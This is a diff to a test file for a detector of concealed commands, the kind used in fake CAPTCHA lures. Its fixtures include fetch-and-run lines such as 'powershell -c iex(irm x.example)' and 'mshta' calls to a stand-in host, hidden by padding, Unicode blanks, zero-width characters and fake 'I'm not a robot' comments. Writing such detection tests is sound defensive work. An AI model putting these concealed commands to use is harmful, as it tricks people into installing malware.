@@ -132,7 +132,7 @@ describe('the command recogniser', () => {
 describe('concealment', () => {
   it.each([
     ['padding before a comment', `mshta https://x.example/a${' '.repeat(40)}# verify`],
-    ['Unicode spaces', `powershell -c iex(irm x.example)${'\u2800'.repeat(12)}ok`],
+    ['Unicode spaces', `powershell -c iex(irm x.example)${'\u2800'.repeat(40)}ok`],
     ['a fake check comment', "powershell -c iex(irm x.example) # I'm not a robot: ID 4821"],
     ['a cmd comment', 'cmd /c start x.exe & rem reCAPTCHA verification'],
     ['invisible characters', 'power\u200bshell -c iex(irm x.example)'],
@@ -144,6 +144,8 @@ describe('concealment', () => {
   it.each([
     "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
     'npm install   # adds it to package.json',
+    'export PATH="$HOME/.local/bin:$PATH"          # aligned comment',
+    '    + CategoryInfo          : NotSpecified: (:) [], MethodInvocationException',
     'docker run \\\n  -p 80:80 \\\n  nginx',
   ])('is not read in a plain command: %s', (text) => {
     expect(conceals(text)).toBe(false);
